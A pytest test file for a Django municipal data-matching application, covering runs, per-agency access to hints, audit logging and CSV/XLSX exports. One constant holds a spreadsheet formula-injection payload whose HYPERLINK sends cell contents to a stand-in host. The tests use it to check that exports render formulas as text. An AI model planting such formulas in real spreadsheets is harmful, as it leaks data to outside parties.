"""The Abgleich run as a record, its hints with need-to-know, and the contract exports."""

import csv
import datetime as dt
import subprocess
import sys
from pathlib import Path

import duckdb
import pytest
from django.conf import settings

from missimo.audit.models import AuditAction, AuditEvent
from missimo.runs import services
from missimo.runs.models import Hint, Run, RunStatus

pytestmark = pytest.mark.django_db(databases="__all__")
STICHTAG = dt.date(2026, 9, 15)
CONTRACT_CHECK = Path(__file__).parents[3] / "shared" / "contract" / "check"


def _run(user):
    run = services.start_run(STICHTAG, user=user, channel="cli")
    return services.execute_run(run.pk)


def test_a_run_without_any_delivery_is_refused_with_a_german_message(kim):
    with pytest.raises(services.RunRefused, match="kein Datenstand"):
        services.start_run(STICHTAG, user=kim)


def test_a_run_finds_exactly_the_hints_the_synthetic_truth_expects(imported_city, kim):
    run = _run(kim)
    assert run.status == RunStatus.FINISHED, run.message
    expected = {
        (row["Regel"], row["Primaerbeleg"])
        for row in csv.DictReader(
            (imported_city / "truth" / "expected_hints.csv").open(encoding="utf-8-sig"), delimiter=";"
        )
    }
    found = set(run.hints.values_list("rule", "primary_ref"))
    assert found == expected


def test_a_run_records_its_inputs_settings_versions_and_counts(imported_city, kim):
    run = _run(kim)
    assert {i["source"] for i in run.inputs} == {
        "objekte",
        "melderegister",
        "kindergeld",
        "schule",
        "jobcenter",
        "seu",
    }
    assert all(len(i["sha256"]) == 64 for i in run.inputs)
    assert run.settings_used["schulabsentismus_schultage"] == 20
    assert set(run.rule_versions) == {s["rule"] for s in run.rule_statuses}
    assert len(run.rule_statuses) == 12 and all(s["evaluated"] for s in run.rule_statuses)
    assert run.software_version and len(run.linkage_model_sha256) == 64
    assert run.counts["hints"] == run.hints.count()
    assert set(run.timings) >= {"person_linkage", "rules"}


def test_two_runs_on_the_same_inputs_give_the_same_hints_marked_unchanged(imported_city, kim):
    first = _run(kim)
    columns = ("hint_id", "rule", "primary_ref", "evidence", "objekt_id", "amount_monthly", "explanation")
    before = list(first.hints.order_by("hint_id").values_list(*columns))
    second = _run(kim)
    assert list(second.hints.order_by("hint_id").values_list(*columns)) == before
    assert list(services.hints_of_run(first).order_by("hint_id").values_list(*columns)) == before
    assert set(second.hints.values_list("change", flat=True)) == {"unveraendert"}
    assert second.counts["hints_unveraendert"] == len(before) and second.counts["hints_neu"] == 0


def test_a_rule_whose_source_is_missing_is_reported_as_not_evaluated(tiny_city, kim):
    from missimo.imports import services as imports

    for source in ("melderegister", "kindergeld", "objekte"):
        with open(tiny_city / f"{source}.csv", "rb") as stream:
            imports.process_delivery(imports.store_delivery(source, stream, f"{source}.csv", user=kim).pk)
    run = _run(kim)
    by_rule = {s["rule"]: s for s in run.rule_statuses}
    assert not by_rule["SCHULABSENTISMUS"]["evaluated"]
    assert "Schul" in by_rule["SCHULABSENTISMUS"]["reason"]
    assert not by_rule["SGB2_NACH_ABMELDUNG"]["evaluated"]
    assert by_rule["KG_NACH_ABMELDUNG"]["evaluated"]


def test_after_a_run_only_persons_with_a_hint_remain_in_the_analysis_store(imported_city, kim):
    run = _run(kim)
    hint_persons = {pid for ids in run.hints.values_list("person_ids", flat=True) for pid in ids}
    con = duckdb.connect(str(Path(settings.DATA_DIR) / run.work_dir / "analysis.duckdb"), read_only=True)
    kept = {row[0] for row in con.execute("SELECT DISTINCT person_id FROM person_link").fetchall()}
    tables = {row[0] for row in con.execute("SELECT table_name FROM duckdb_tables()").fetchall()}
    con.close()
    assert kept <= hint_persons
    assert run.counts["person_records_deleted"] > 0
    assert not tables & {"melderegister", "kindergeld", "schule", "jobcenter", "seu"}


def test_each_agency_sees_only_its_own_hints(imported_city, kim, fabian, make_user, client):
    from missimo.accounts.models import AgencyKind
    from missimo.accounts.policy import Role

    _run(kim)
    assert set(services.hints_for(fabian).values_list("agency_kind", flat=True)) == {"familienkasse"}
    jonas = make_user("jonas", Role.JOBCENTER, "Jobcenter", AgencyKind.JOBCENTER)
    assert set(services.hints_for(jonas).values_list("agency_kind", flat=True)) <= {"jobcenter"}
    assert services.hints_for(kim).count() == Hint.objects.count()

    client.force_login(fabian)
    page = client.get("/hinweise/")
    assert "Hinweis, kein Nachweis." in page.text
    assert "SGB II" not in page.text
    assert AuditEvent.objects.filter(
        action=AuditAction.READ, object_type="hint_list", actor_username="fabian"
    ).exists()


def test_the_data_protection_officer_sees_no_hints_or_runs(client, dana):
    client.force_login(dana)
    assert client.get("/hinweise/").status_code == 404
    assert client.get("/abgleich/").status_code == 404


def test_the_coordination_office_starts_a_run_from_the_web(
    imported_city, kim, client, django_capture_on_commit_callbacks
):
    client.force_login(kim)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post("/abgleich/", {"stichtag": "15.09.2026"})
    run = Run.objects.get()
    assert response["Location"] == f"/abgleich/{run.pk}/"
    assert run.stichtag == STICHTAG
    page = client.get(response["Location"])
    assert "abgeschlossen" in page.text and "Ergebnis je Regel" in page.text


def test_other_agencies_cannot_start_a_run(client, fabian):
    client.force_login(fabian)
    assert client.post("/abgleich/", {"stichtag": "15.09.2026"}).status_code == 404
    assert not Run.objects.exists()


def test_the_rule_catalogue_shows_each_threshold_next_to_its_legal_source(client, fabian):
    client.force_login(fabian)
    page = client.get("/regeln/").text
    assert "WohnStG NRW § 10" in page and "10 m²" in page
    assert page.count('class="rule-entry"') == 12


def test_the_exports_follow_the_contract(imported_city, kim, tmp_path):
    run = _run(kim)
    hints, properties = tmp_path / "hints.csv", tmp_path / "properties.csv"
    assert services.export_hints(run, hints) == run.hints.count()
    services.export_properties(run, properties)
    if CONTRACT_CHECK.exists():
        result = subprocess.run(
            [sys.executable, str(CONTRACT_CHECK), str(hints), str(properties)],
            capture_output=True,
            text=True,
            check=False,
        )
        assert result.returncode == 0, result.stdout
    header = hints.read_text(encoding="utf-8").splitlines()[0]
    assert header == "Hinweis_ID;Regel;Objekt_ID;Adresse;Belege;Betrag_monatlich;Erklaerung"


def _hint_with_links(run):
    for hint in run.hints.exclude(person_ids=[]):
        links = services.links_of_hint(hint)
        if links:
            return hint, links
    raise AssertionError("no hint with a person link")


def test_why_linked_shows_both_records_field_by_field_with_weights(imported_city, kim, client):
    run = _run(kim)
    hint, links = _hint_with_links(run)
    client.force_login(kim)
    page = client.get(f"/hinweise/{hint.pk}/verknuepfung/")
    assert page.status_code == 200
    link = links[0]
    assert link["uid_left"] in page.text and link["uid_right"] in page.text
    assert "Gewichte Merkmal für Merkmal" in page.text and "Wahrscheinlichkeit derselben Person" in page.text
    assert {f["label"] for f in link["fields"]} >= {"Vornamen", "Familienname", "Geburtsdatum"}
    assert AuditEvent.objects.filter(
        object_type="hint_links", object_id=hint.hint_id, actor_username="kim"
    ).exists()


def test_another_agency_cannot_open_the_links_of_a_hint_it_may_not_see(imported_city, kim, make_user, client):
    from missimo.accounts.models import AgencyKind
    from missimo.accounts.policy import Role

    run = _run(kim)
    hint = run.hints.exclude(agency_kind="gesundheitsamt").exclude(person_ids=[]).first()
    gerd = make_user("gerd", Role.GESUNDHEITSAMT, "Gesundheitsamt", AgencyKind.GESUNDHEITSAMT)
    client.force_login(gerd)
    assert client.get(f"/hinweise/{hint.pk}/verknuepfung/").status_code == 404


def test_a_rejected_link_is_audited_and_kept_apart_in_later_runs(imported_city, kim, client, monkeypatch):
    from missimo.runs import services as run_services
    from missimo.runs.models import RejectedLink

    run = _run(kim)
    hint, links = _hint_with_links(run)
    pair = links[0]
    client.force_login(kim)
    too_short = client.post(
        f"/hinweise/{hint.pk}/verknuepfung/",
        {"uid_left": pair["uid_left"], "uid_right": pair["uid_right"], "reason": "nein"},
        follow=True,
    )
    assert "mindestens 10 Zeichen" in too_short.text
    client.post(
        f"/hinweise/{hint.pk}/verknuepfung/",
        {
            "uid_left": pair["uid_left"],
            "uid_right": pair["uid_right"],
            "reason": "Andere Mutter laut Geburtsurkunde",
        },
    )
    rejected = RejectedLink.objects.get()
    assert (rejected.uid_left, rejected.uid_right) == tuple(sorted((pair["uid_left"], pair["uid_right"])))
    assert AuditEvent.objects.filter(action=AuditAction.CHANGE, object_type="person_link").exists()

    seen = {}
    original = run_services.run_abgleich

    def spy(*args, **kwargs):
        seen["rejected"] = kwargs.get("rejected_links")
        return original(*args, **kwargs)

    monkeypatch.setattr(run_services, "run_abgleich", spy)
    second = _run(kim)
    assert rejected.as_engine_pair() in seen["rejected"]
    con = duckdb.connect(str(Path(settings.DATA_DIR) / second.work_dir / "analysis.duckdb"), read_only=True)
    persons = dict(
        con.execute(
            "SELECT entity || ':' || record_key, person_id FROM person_link WHERE entity || ':' || record_key IN (?, ?)",
            [pair["uid_left"], pair["uid_right"]],
        ).fetchall()
    )
    con.close()
    if len(persons) == 2:
        assert persons[pair["uid_left"]] != persons[pair["uid_right"]]


# --- exports of the Hinweise and Abgleich lists ------------------------------------------------

FORMULA = '=HYPERLINK("https://example.invalid/?d="&A1;"Klick")'


def _csv_rows(response) -> list[list[str]]:
    import io

    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def _xlsx_rows(response) -> list[list]:
    import io

    import openpyxl

    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_the_hint_export_has_the_hints_of_the_filtered_page_on_all_pages(client, kim):
    from tests.app.test_casework import build_city

    build_city()
    client.force_login(kim)
    page = client.get("/hinweise/", {"regel": "SCHULE_OHNE_MELDUNG"})
    shown = [h.hint_id for h in page.context["page"].object_list]
    assert 'href="/hinweise/export.csv?regel=SCHULE_OHNE_MELDUNG"' in page.text
    rows = _csv_rows(client.get("/hinweise/export.csv", {"regel": "SCHULE_OHNE_MELDUNG"}))
    assert rows[0][:2] == ["Regel", "Bezeichnung"]
    by_id = {h.hint_id: h.objekt_id for h in Hint.objects.all()}
    assert [row[4] for row in rows[1:]] == [by_id[hint_id] for hint_id in shown]
    assert {row[0] for row in rows[1:]} == {"SCHULE_OHNE_MELDUNG"} and len(rows) == 4
    xlsx = _xlsx_rows(client.get("/hinweise/export.xlsx", {"regel": "SCHULE_OHNE_MELDUNG"}))
    assert [row[4] for row in xlsx[1:]] == [row[4] for row in rows[1:]]
    assert client.get("/hinweise/export.pdf").status_code == 404


def test_the_hint_export_lists_every_page_not_only_the_first(client, kim, monkeypatch):
    from django.core import paginator

    from tests.app.test_casework import build_city

    build_city()
    monkeypatch.setattr(paginator.Paginator, "__init__", _small_pages(paginator.Paginator.__init__))
    client.force_login(kim)
    assert len(client.get("/hinweise/").context["page"].object_list) == 2
    assert len(_csv_rows(client.get("/hinweise/export.csv"))) == 1 + Hint.objects.count()


def _small_pages(init):
    def small(self, object_list, per_page, *args, **kwargs):
        init(self, object_list, 2, *args, **kwargs)

    return small


def test_the_hint_export_is_audited_and_has_no_hint_of_another_agency(client, fabian):
    from tests.app.test_casework import build_city

    build_city()
    client.force_login(fabian)
    rows = _csv_rows(client.get("/hinweise/export.csv"))
    assert {row[0] for row in rows[1:]} == {"KG_KIND_NICHT_GEMELDET"}
    event = AuditEvent.objects.get(action=AuditAction.EXPORT, object_type="hint_list")
    assert event.actor_username == "fabian" and event.purpose.startswith("Export")
    assert sorted(event.details["hints"]) == [f"H-KG-{i}" for i in range(1, 6)]


def test_a_formula_in_a_hint_is_exported_as_text(client, kim):
    from tests.app.test_casework import build_city

    build_city()
    Hint.objects.update(explanation=FORMULA)
    client.force_login(kim)
    rows = _csv_rows(client.get("/hinweise/export.csv"))
    assert {row[2] for row in rows[1:]} == {"'" + FORMULA}
    xlsx = _xlsx_rows(client.get("/hinweise/export.xlsx"))
    assert {row[2] for row in xlsx[1:]} == {"'" + FORMULA}


def test_the_run_list_export_has_the_runs_the_page_shows(client, kim, fabian):
    for day in (1, 2, 3):
        Run.objects.create(
            stichtag=dt.date(2026, 9, day), status=RunStatus.FAILED, message=FORMULA, channel="cli"
        )
    client.force_login(fabian)
    page = client.get("/abgleich/")
    shown = [run.pk for run in page.context["runs"]]
    assert "/abgleich/export.xlsx" in page.text
    rows = _csv_rows(client.get("/abgleich/export.csv"))
    assert rows[0] == ["Nr.", "Stichtag", "gestartet", "Status", "Ergebnis"]
    assert [int(row[0]) for row in rows[1:]] == shown
    assert rows[1][1] == "03.09.2026" and rows[1][4] == "'" + FORMULA
    xlsx = _xlsx_rows(client.get("/abgleich/export.xlsx"))
    assert [row[0] for row in xlsx[1:]] == shown and xlsx[1][4] == "'" + FORMULA
